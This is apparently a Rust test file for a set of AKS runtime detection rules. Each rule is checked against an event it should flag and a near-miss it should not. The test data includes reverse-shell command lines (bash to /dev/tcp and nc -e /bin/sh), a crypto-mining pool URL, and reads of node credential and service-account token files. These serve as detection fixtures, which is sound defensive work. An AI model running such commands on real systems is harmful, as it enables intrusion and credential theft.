//! Each rule for Azure Kubernetes Service, with an event that it is for and one beside it that it is not for.

use std::borrow::Cow;

use super::{super::*, Table, text};
use crate::event::value::{Address, Value};

const RULES: &str = include_str!("../../../rules/aks.yaml");

/// Fields of an application's process in a container.
fn application(fields: &[(&'static str, &'static str)]) -> Table {
    let mut all =
        vec![("container.id", text("3ad7b26ded6d")), ("k8s.ns.name", text("prod")), ("proc.vpid", Value::Int(7))];
    for (name, value) in fields {
        all.retain(|(known, _)| known != name);
        let value = match *name {
            "fd.sip" => Value::Ip(Address(value.parse().unwrap())),
            "fd.sport" => Value::Uint(value.parse().unwrap()),
            "proc.vpid" => Value::Int(value.parse().unwrap()),
            "evt.is_open_write" => Value::Bool(*value == "true"),
            _ => Value::Text(Cow::Borrowed(value.as_bytes())),
        };
        all.push((name, value));
    }
    Table(all)
}

/// A rule, the type of an event, what the event has, and what a similar one has that is nobody's business.
type Case =
    (&'static str, &'static str, &'static [(&'static str, &'static str)], &'static [(&'static str, &'static str)]);

#[rustfmt::skip]
const CASES: &[Case] = &[
    ("Pod asks the instance metadata service", "connect",
        &[("fd.sip", "169.254.169.254")], &[("fd.sip", "169.254.169.253")]),
    ("Pod talks to the platform's wireserver", "connect",
        &[("fd.sip", "168.63.129.16"), ("fd.sport", "80")], &[("fd.sip", "168.63.129.16"), ("fd.sport", "53")]),
    ("Container reads the node's credentials", "openat",
        &[("fd.name", "/host/etc/kubernetes/azure.json")], &[("fd.name", "/etc/kubernetes/azure.json.md")]),
    ("Container reads the node's credentials", "openat",
        &[("fd.name", "/host/var/lib/kubelet/pki/kubelet.crt")], &[("fd.name", "/host/var/lib/kubelet/x")]),
    ("Container reads a kubeconfig", "openat", &[("fd.name", "/root/.kube/config")], &[("fd.name", "/root/.kube/cache")]),
    ("Token of a service account is read by a second process", "openat",
        &[("fd.name", "/var/run/secrets/kubernetes.io/serviceaccount/token"), ("proc.name", "cat")],
        &[("fd.name", "/var/run/secrets/kubernetes.io/serviceaccount/token"), ("proc.name", "cat"), ("proc.vpid", "1")]),
    ("Container writes a static pod", "openat",
        &[("fd.name", "/host/etc/kubernetes/manifests/x.yaml"), ("evt.is_open_write", "true")],
        &[("fd.name", "/host/etc/kubernetes/manifests/x.yaml"), ("evt.is_open_write", "false")]),
    ("Container talks to the container runtime", "connect",
        &[("fd.name", "8->9 /run/containerd/containerd.sock")], &[("fd.name", "8->9 /run/x.sock")]),
    ("Administration tool in a container", "execve", &[("proc.name", "kubectl")], &[("proc.name", "kubelet")]),
    ("Miner in a container", "execve",
        &[("proc.cmdline", "x -o stratum+tcp://pool.example.com")], &[("proc.cmdline", "x -o tcp://pool.example.com")]),
    ("Reverse shell in a container", "execve",
        &[("proc.cmdline", "bash -c bash -i >& /dev/tcp/192.0.2.1/9 0>&1")], &[("proc.cmdline", "bash -c true")]),
    ("Reverse shell in a container", "execve",
        &[("proc.name", "nc"), ("proc.args", "192.0.2.1 9 -e /bin/sh")], &[("proc.name", "nc"), ("proc.args", "-z 192.0.2.1 9")]),
    ("Container changes how the kernel calls programs", "openat",
        &[("fd.name", "/proc/sys/kernel/core_pattern"), ("evt.is_open_write", "true")],
        &[("fd.name", "/proc/sys/kernel/core_pattern"), ("evt.is_open_write", "false")]),
    ("Container loads a kernel module", "finit_module", &[], &[("container.id", "host")]),
    ("Pod uses bpf", "bpf", &[], &[("k8s.ns.name", "kube-system")]),
    ("Container enters a namespace", "setns", &[], &[("container.id", "host")]),
    ("Container mounts a file system", "mount", &[], &[("k8s.ns.name", "kube-system")]),
    ("Process of a container is traced", "ptrace", &[], &[("container.id", "host")]),
];

#[test]
fn each_rule_matches_what_it_is_for_and_nothing_beside_it() {
    let sources = [Source::builtin(), Source { name: "aks.yaml".into(), text: RULES.into() }];
    let loaded = RuleSet::load(&sources, &Options { matching: Matching::All, ..Options::default() });
    assert_eq!(loaded.diagnostics.iter().map(ToString::to_string).collect::<Vec<_>>(), [""; 0]);
    let mut rules = loaded.rules.unwrap();
    let mut of_aks: Vec<_> = rules.rules().filter(|rule| rule.tags.iter().any(|tag| tag == "aks")).collect();
    of_aks.retain(|rule| !CASES.iter().any(|(name, ..)| *name == rule.name));
    assert_eq!(of_aks.iter().map(|rule| &rule.name).collect::<Vec<_>>(), [""; 0], "rules without a case");
    for (name, event_type, wanted, other) in CASES {
        let event_type = EventType::find(event_type).unwrap();
        let mut matches = |fields| {
            let mut found = false;
            rules.evaluate(event_type, &application(fields), |rule| found |= rule.name == *name);
            found
        };
        assert!(matches(wanted), "{name}: {wanted:?}");
        assert!(!matches(other), "{name}: {other:?}");
    }
}
